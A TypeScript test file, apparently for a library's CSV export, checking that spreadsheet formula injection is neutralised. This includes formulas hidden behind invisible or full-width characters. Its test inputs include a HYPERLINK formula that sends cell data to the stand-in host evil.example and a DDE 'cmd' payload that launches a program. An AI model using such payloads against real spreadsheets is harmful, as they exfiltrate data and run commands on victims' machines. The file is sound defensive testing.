// Issue 8: a CSV export never hands a spreadsheet a formula. Cells starting
// with = + - @ (and tab or carriage return, which some spreadsheets skip before
// reading a formula) get a leading apostrophe; other text is kept as it is.
// Issue 16: so do cells whose sign hides behind spaces, no-break or zero-width
// characters, or is written in full-width (＝＋－＠) or small forms.
import fc from 'fast-check'
import { csvCell, toCsv } from '../../lib/index'
import { recordFigures, tallyInto } from '../support/reliabilityFigures'

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r']
const figures: Array<{ what: string; tried: number; held: number }> = []
const tally = tallyInto(figures)
afterAll(() => recordFigures('security-csv', figures))

/** Reads an RFC 4180 document back into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') { cell += '"'; i += 1 } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') { row.push(cell); cell = '' }
    else if (char === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 1 }
    else cell += char
  }
  if (cell !== '' || row.length > 0) { row.push(cell); rows.push(row) }
  return rows
}

// Issue 16: what a reader cannot see before a sign, and the full-width and small signs.
const INVISIBLE = [' ', '\u00a0', '\u2007', '\u202f', '\u3000', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u200e', '\u200f', '\u00ad', '\n']
const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\u2212']
const startsWithTrigger = (text: string) => {
  if (TRIGGERS.some((trigger) => text.startsWith(trigger))) return true
  let at = 0
  while (at < text.length && (INVISIBLE.includes(text[at]) || /\s/.test(text[at]))) at += 1
  return SIGNS.includes(text[at] ?? '')
}

describe('CSV formula injection', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example?x="&A1,"click")', '\'=HYPERLINK("https://evil.example?x="&A1,"click")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
  ])('csvCell(%j) is %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })

  it.each([
    [' =1+1'], ['   +1+1'], ['\u00a0=HYPERLINK("https://evil.example","x")'], ['\u200b=1+1'], ['\u200d@SUM(A1:A2)'], ['\ufeff=1'],
    ['\u3000-1+1'], ['\u2060\u200b =cmd|calc'], ['\u200e=1'], ['\n=1+1'], ['\uff1d1+1'], ['\uff0bA1'], ['\uff0d1+1'], ['\uff20SUM(A1)'],
    ['\u00a0\uff1dHYPERLINK("x")'], ['\ufe66 1'], ['\u22121+1'],
  ])('a formula behind invisible characters or in full-width signs, %j, is neutralised', (value) => {
    const check = tally('hidden-start and full-width formula cells (issue 16): neutralised with a leading apostrophe')
    check(() => expect(csvCell(value)).toBe(`'${value}`))
  })

  it.each([[' plain'], ['\u00a0text'], ['a\uff1db'], ['\u200bword'], ['1\uff0b1']])('%j, no formula, is kept as it is', (value) => {
    expect(csvCell(value)).toBe(value)
  })

  it('a generated formula behind generated invisible characters is always neutralised (fast-check)', () => {
    const check = tally('generated invisible prefixes × signs (fast-check): neutralised')
    fc.assert(fc.property(fc.array(fc.constantFrom(...INVISIBLE), { minLength: 1, maxLength: 4 }), fc.constantFrom(...SIGNS), fc.string(), (prefix, sign, rest) => {
      check(() => {
        const text = `${prefix.join('')}${sign}${rest}`
        const [cell] = parseCsv(toCsv([{ text }], [{ label: 'T', value: 'text' }]))[1]
        expect(cell).toBe(`'${text}`)
      })
    }), { numRuns: 2000 })
  })

  it('keeps numbers (a negative number is no formula) and neutralises formulas inside objects and dates', () => {
    expect(csvCell(-5)).toBe('-5')
    expect(csvCell(3.5)).toBe('3.5')
    expect(csvCell(new Date('2024-05-01T00:00:00Z'))).toBe('2024-05-01T00:00:00.000Z')
    expect(csvCell(['=1'])).toBe('["=1"]')
  })

  it('no cell of a generated export starts with a formula trigger once read back (fast-check)', () => {
    const check = tally('generated CSV cells (fast-check): none starts with = + - @ tab CR once read back')
    const text = fc.oneof(
      fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([a, b]) => a + b),
      fc.string(),
      fc.string({ unit: 'binary' }),
    )
    const value = fc.oneof(text, fc.integer(), fc.double({ noNaN: true }), fc.boolean(), fc.constant(null), fc.array(text, { maxLength: 2 }))
    const rows = fc.array(fc.record({ a: value, b: value, c: text }), { minLength: 1, maxLength: 8 })
    fc.assert(fc.property(rows, (records) => {
      const parsed = parseCsv(toCsv(records, [{ label: 'A', value: 'a' }, { label: 'B', value: 'b' }, { label: '=C', value: (row) => row.c }]))
      expect(parsed).toHaveLength(records.length + 1)
      expect(parsed[0]).toEqual(['A', 'B', "'=C"])
      records.forEach((record, index) => {
        const cells = parsed[index + 1]
        expect(cells).toHaveLength(3)
        ;(['a', 'b', 'c'] as const).forEach((key, column) => {
          check(() => {
            const original = record[key]
            if (typeof original === 'number') {
              expect(cells[column]).toBe(String(original))
            } else {
              expect(startsWithTrigger(cells[column])).toBe(false)
              // Nothing else is changed: the cell is the text, or the text behind an apostrophe.
              const textOf = typeof original === 'string' ? original : original === null ? '' : typeof original === 'boolean' ? String(original) : JSON.stringify(original)
              expect(cells[column]).toBe(startsWithTrigger(textOf) ? `'${textOf}` : textOf)
            }
          })
        })
      })
    }), { numRuns: 2000 })
  })
})
